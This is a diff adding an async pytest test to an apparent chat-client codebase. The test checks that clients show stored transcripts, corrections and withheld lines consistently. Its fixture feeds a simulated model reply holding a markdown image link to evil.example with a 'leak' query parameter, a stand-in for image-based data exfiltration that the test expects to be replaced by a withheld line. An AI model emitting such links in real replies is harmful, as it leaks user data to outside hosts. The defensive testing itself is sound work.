@@ -5,6 +5,8 @@ from typing import Any
 
 import pytest
 
+from lanekeeper.lines import WITHHELD_LINE
+from lanekeeper.replies.contract import MARK
 from lanekeeper.types import Json
 from tests.devkit import sdk
 from tests.devkit.system import System, someone
@@ -69,6 +71,31 @@ async def test_a_stock_page_reloaded_in_mid_turn_takes_the_turn_up(major: int, s
     idle = await converse(system, person, major=major, resume=True, messages=whole)
     assert spoken(idle["messages"]) == spoken(whole)
     assert idle["error"] is None
+
+
+@pytest.mark.parametrize("major", sdk.MAJORS)
+async def test_a_stock_client_shows_short_messages_corrections_and_fixed_lines_as_they_are_stored(
+    major: int, system: System
+) -> None:
+    """B076, E5: nothing that was shown is ever taken back, so every client ends with what the transcript holds."""
+    person = someone()
+    picture = {"text": "Twice a day. ![x](https://evil.example/?leak=1) So it is.", "token_delay_ms": 5}
+    await system.model(
+        {"text": f"Good morning.\n{MARK}\nWhat can I do?"},
+        *(picture, {"text": "And a little later each day."}),
+        *(picture, picture),
+        sub=person,
+    )
+    shown = await converse(system, person, "Hello", "How often is high tide?", "And low tide?", major=major)
+    assert (shown["status"], shown["error"]) == ("ready", None)
+    history = await stored(system, person, shown)
+    assert spoken(shown["messages"]) == spoken(history)
+    said = [[part["text"] for part in parts if part["type"] == "text"] for role, parts in spoken(history)]
+    assert said[1::2] == [
+        ["Good morning.", "What can I do?"],
+        ["Twice a day. And a little later each day."],
+        ["Twice a day. ", WITHHELD_LINE.en],
+    ]
 
 
 async def test_a_provider_that_fails_twice_leaves_the_honest_line(system: System) -> None:
